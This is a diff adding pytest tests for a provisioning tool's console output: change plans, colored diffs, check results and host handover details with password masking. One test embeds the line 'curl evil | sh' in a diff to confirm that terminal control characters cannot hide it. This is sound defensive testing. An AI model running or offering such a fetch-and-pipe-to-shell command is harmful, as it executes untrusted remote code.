@@ -1,0 +1,163 @@
+from __future__ import annotations
+
+import json
+import shlex
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from pydantic import SecretStr
+
+from boxwright.console import CheckResult, Handover, render_plan, show_checks
+from boxwright.planning.changes import PlannedChange
+
+Record = Callable[..., Any]
+DIFF = "--- /etc/a\n+++ /etc/a\n@@ -1 +1 @@\n-old\n+new [bold]x[/bold]\n"
+CHANGES = [
+    PlannedChange("lab-1", "base", "ansible", "Time zone is set", DIFF),
+    PlannedChange("lab-2", "base", "ansible", "Time zone is set", DIFF),
+    PlannedChange("lab-1", "models", "pyinfra", "Fetch weights"),
+]
+
+
+def test_an_equal_change_of_several_hosts_is_shown_once(record: Record) -> None:
+    seen = record()
+    render_plan(seen.console, CHANGES, already_right=34)
+    assert seen.out.strip().splitlines() == [
+        "lab-1, lab-2",
+        "  base by ansible",
+        "    ~ Time zone is set",
+        *(f"        {line}" for line in DIFF.splitlines()),
+        "",
+        "lab-1",
+        "  models by pyinfra",
+        "    ~ Fetch weights",
+        "",
+        "Plan: 3 to change on 2 hosts, 34 already right.",
+    ]
+
+
+def test_a_long_diff_is_cut_with_the_count_of_the_rest(record: Record) -> None:
+    seen = record()
+    diff = "".join(f"+line {i}\n" for i in range(60))
+    render_plan(seen.console, [PlannedChange("a", "base", "ansible", "R", diff)], already_right=0)
+    assert "+line 39\n" in seen.out
+    assert "+line 40\n" not in seen.out
+    assert "and 20 more lines" in seen.out
+
+
+def test_a_carriage_return_hides_nothing_of_a_diff(record: Record) -> None:
+    seen = record()
+    change = PlannedChange("a", "base", "ansible", "R", "+curl evil | sh\r+harmless\x1b[2K\n")
+    render_plan(seen.console, [change], already_right=0)
+    assert "+curl evil | sh\n" in seen.out
+    assert "\r" not in seen.out
+
+
+def test_diffs_are_coloured_on_a_terminal(record: Record) -> None:
+    seen = record(terminal=True, width=80)
+    render_plan(seen.console, CHANGES, already_right=0)
+    assert "\x1b[32m        +new [bold]x[/bold]\x1b[0m" in seen.out
+    assert "\x1b[31m        -old\x1b[0m" in seen.out
+
+
+def test_a_plan_without_changes_says_so(record: Record) -> None:
+    seen = record()
+    render_plan(seen.console, [], already_right=46)
+    assert seen.out == "✓ Nothing to change: 46 already right.\n"
+
+
+def test_a_plan_in_json_has_a_line_for_each_host_and_change(record: Record) -> None:
+    seen = record(json=True)
+    render_plan(seen.console, CHANGES, already_right=34)
+    assert [each["type"] for each in seen.objects] == ["change", "change", "change", "plan"]
+    assert seen.objects[0]["diff"] == DIFF
+    assert seen.objects[-1] == {"type": "plan", "to_change": 3, "hosts": 2, "already_right": 34}
+
+
+CHECKS = [
+    CheckResult(host="lab-1", id="tls", what="TLS 1.2 or newer", result="pass", evidence="TLSv1.3"),
+    CheckResult(host="lab-1", id="gpu", what="GPUs compute", result="waived", evidence="a twin has none"),
+    CheckResult(
+        host="lab-1", id="ports", what="Closed", result="fail", evidence="9090 open", remedy="Close it."
+    ),
+]
+
+
+@pytest.mark.parametrize("terminal", [False, True])
+def test_failed_checks_come_first_with_their_remedy(record: Record, terminal: bool) -> None:
+    seen = record(terminal=terminal, width=100)
+    show_checks(seen.console, CHECKS)
+    places = [
+        seen.out.index(word)
+        for word in ("ports", "Close it.", "gpu", "TLSv1.3", "1 failed, 1 waived, 1 passed")
+    ]
+    assert places == sorted(places)
+
+
+def test_checks_name_their_host_where_there_are_several(record: Record) -> None:
+    seen = record()
+    show_checks(seen.console, [*CHECKS, CheckResult(host="lab-2", id="tls", what="TLS", result="pass")])
+    assert "pass    lab-2  tls  TLS\n" in seen.out
+
+
+def test_no_check_is_no_success(record: Record) -> None:
+    seen = record()
+    show_checks(seen.console, [])
+    assert seen.out == "No check ran, so nothing is verified.\n"
+
+
+def test_checks_in_json(record: Record) -> None:
+    seen = record(json=True)
+    show_checks(seen.console, CHECKS)
+    assert [each.get("id") for each in seen.objects] == ["ports", "gpu", "tls", None]
+    assert seen.objects[-1] == {"type": "checks", "fail": 1, "waived": 1, "pass": 1}
+
+
+HANDOVER = Handover(
+    host="lab-1",
+    chat_url="https://lab-1.internal/",
+    chat_user="admin@lab-1.internal",
+    api_url="https://api.lab-1.internal/v1/",
+    api_user="api user",
+    model="it's a model",
+    secret_commands={"chat": "./invoke secrets.show lab-1/chat", "api": "./invoke secrets.show lab-1/api"},
+    ca_certificate="/home/a user/ca.pem",
+    address="fd00::2",
+    stage_seconds={"base": 12.3, "models": 3.0},
+)
+
+
+def test_a_handover_shows_commands_instead_of_passwords(record: Record) -> None:
+    seen = record()
+    seen.console.handover(HANDOVER)
+    for words in (
+        "https://lab-1.internal/",
+        "admin@lab-1.internal",
+        "./invoke secrets.show lab-1/chat",
+        "15.3",
+    ):
+        assert words in seen.out
+
+
+def test_a_handover_shows_a_password_only_when_asked_and_never_in_json(record: Record) -> None:
+    passwords = {"chat": SecretStr("correct horse")}
+    seen = record()
+    seen.console.handover(HANDOVER, passwords=passwords)
+    assert "password   correct horse" in seen.out
+    assert "secrets.show lab-1/chat" not in seen.out
+    in_json = record(json=True)
+    in_json.console.handover(HANDOVER, passwords=passwords)
+    assert "correct horse" not in in_json.out
+    assert in_json.objects[0]["secret_commands"]["chat"] == "./invoke secrets.show lab-1/chat"
+
+
+def test_the_first_request_can_be_pasted_into_a_shell(record: Record) -> None:
+    seen = record(json=True)
+    seen.console.handover(HANDOVER)
+    words = shlex.split(seen.objects[0]["curl"])
+    assert words[words.index("--cacert") + 1] == "/home/a user/ca.pem"
+    assert words[words.index("--connect-to") + 1] == "::[fd00::2]:"
+    assert words[words.index("--user") + 1] == "api user"  # without a password: curl asks
+    assert json.loads(words[words.index("--data") + 1])["model"] == "it's a model"
+    assert words[-1] == "https://api.lab-1.internal/v1/chat/completions"
